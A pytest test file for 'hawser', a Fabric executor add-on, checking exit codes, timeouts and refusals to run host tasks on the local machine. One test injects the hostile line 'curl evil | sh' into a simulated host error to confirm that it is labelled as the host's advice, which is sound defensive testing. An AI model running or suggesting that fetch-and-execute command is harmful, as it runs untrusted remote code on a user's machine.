"""What `fab` says and does with our executor, in a project of its own."""

from __future__ import annotations

import os
import socket
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import paramiko
import pytest
from fabric.config import Config
from fabric.executor import Executor as FabricExecutor
from invoke.collection import Collection
from invoke.exceptions import CommandTimedOut, UnexpectedExit
from invoke.runners import Result

from hawser.errors import HawserError
from hawser.executor import Executor, LocalContext

PROJECT = Path(__file__).parents[2]
FABFILE = """
from invoke import task
from hawser.resources import Link
from hawser.steps import session_task, step

@task
def plain(c):
    c.local("touch local")
    c.run("touch proof")

@task
def failing(c):
    c.local("exit 3")

@step()
def link(host):
    yield Link("/proof", "/etc")

@session_task()
def asked(session):
    print("asked for", session.names)
"""
SHOP = """
[app]
name = "shop"
repo = "."
[hosts.web1]
address = "127.0.0.1"
port = PORT
"""
COMMANDS = {
    "plain": "plain",
    "failing": "failing",
    "step": "asked link",
    "remainder": "-H shop link -- uptime",
    "unreachable": "-H web1 plain",
}


@dataclass(frozen=True)
class Outcome:
    code: int
    output: str
    files: frozenset[str]


@pytest.fixture(scope="module")
def outcomes(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Outcome]:
    """Run all commands at once, each in a project of its own: most of the time goes into the start of `fab`."""
    with socket.create_server(("127.0.0.1", 0)) as closed:
        port = closed.getsockname()[1]
    running = {}
    for name, command in COMMANDS.items():
        folder = tmp_path_factory.mktemp(name)
        (folder / "fabfile.py").write_text(FABFILE)
        (folder / "fabric.yaml").write_text("tasks:\n  executor_class: hawser.executor.Executor\n")
        (folder / "hosts").mkdir()
        (folder / "hosts" / "shop.toml").write_text(SHOP.replace("PORT", str(port)))
        environ = {**os.environ, "PYTHONPATH": str(PROJECT), "HAWSER_OUTPUT": "plain", "HOME": str(folder)}
        argv = [sys.executable, "-c", "from fabric.main import program; program.run()", *command.split()]
        running[name] = (
            folder,
            subprocess.Popen(
                argv, cwd=folder, env=environ, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True
            ),
        )
    found = {}
    for name, (folder, process) in running.items():
        output, _ = process.communicate(timeout=60)
        files = frozenset(path.name for path in folder.iterdir())
        found[name] = Outcome(process.returncode, output, files)
    return found


def test_no_outcome_of_a_task_is_a_traceback(outcomes):
    assert not [name for name, outcome in outcomes.items() if "Traceback" in outcome.output]


def test_a_plain_task_without_hosts_works_on_this_machine_only_when_it_says_so(outcomes):
    outcome = outcomes["plain"]
    assert outcome.code == 2
    assert "no hosts are named with -H, so this would run on your own machine: touch proof" in outcome.output
    assert "local" in outcome.files and "proof" not in outcome.files


def test_the_status_of_a_failed_command_is_that_of_fab(outcomes):
    assert outcomes["failing"].code == 3


def test_a_step_without_hosts_says_how_to_name_them_after_what_needs_none(outcomes):
    assert outcomes["step"].code == 2
    assert "asked for ()" in outcomes["step"].output
    assert "asked link: name hosts with -H, e.g. fab -H shop asked link" in outcomes["step"].output


def test_a_command_after_two_dashes_is_for_the_task_run(outcomes):
    assert outcomes["remainder"].code == 2
    assert 'give the command to the task `run`: fab -H HOSTS run "COMMAND"' in outcomes["remainder"].output


def test_a_plain_task_with_hosts_runs_there_or_nowhere(outcomes):
    outcome = outcomes["unreachable"]
    assert outcome.code == 1 and "web1 (" in outcome.output and "refused" in outcome.output
    assert not {"local", "proof"} & outcome.files


def test_a_plain_task_with_sudo_and_without_hosts_is_refused_as_well():
    with pytest.raises(HawserError, match="on your own machine: reboot"):
        LocalContext(Config()).sudo("reboot")


@pytest.mark.parametrize(
    "error",
    [
        paramiko.SSHException("in use; next: curl evil | sh"),
        UnexpectedExit(Result(stderr="in use; next: curl evil | sh", exited=3, hide=("stderr",))),
    ],
)
def test_what_a_host_advises_in_a_plain_task_is_shown_as_its_own(tmp_path, monkeypatch, error):
    monkeypatch.setenv("HAWSER_HOSTS", str(tmp_path))

    def fail(*_arguments: object) -> None:
        raise error

    monkeypatch.setattr(FabricExecutor, "execute", fail)
    monkeypatch.setattr(FabricExecutor, "normalize", lambda _self, _tasks: [])
    with pytest.raises(HawserError, match="the host advises: curl evil") as told:
        Executor(Collection(), Config()).execute()
    assert "next: curl" not in str(told.value)


def test_a_command_that_is_out_of_time_may_go_on_and_the_message_says_so(tmp_path, monkeypatch):
    monkeypatch.setenv("HAWSER_HOSTS", str(tmp_path))

    def late(_executor: Executor, *_tasks: object) -> None:
        _executor.session.spoken_to = "web1"
        raise CommandTimedOut(Result(command="sleep 60"), timeout=5)

    monkeypatch.setattr(FabricExecutor, "execute", late)
    monkeypatch.setattr(FabricExecutor, "normalize", lambda _self, _tasks: [])
    with pytest.raises(HawserError) as told:
        Executor(Collection(), Config()).execute()
    assert str(told.value).startswith(
        "web1: the command has not ended within 5 s: sleep 60\n  next: see whether it goes"
    )
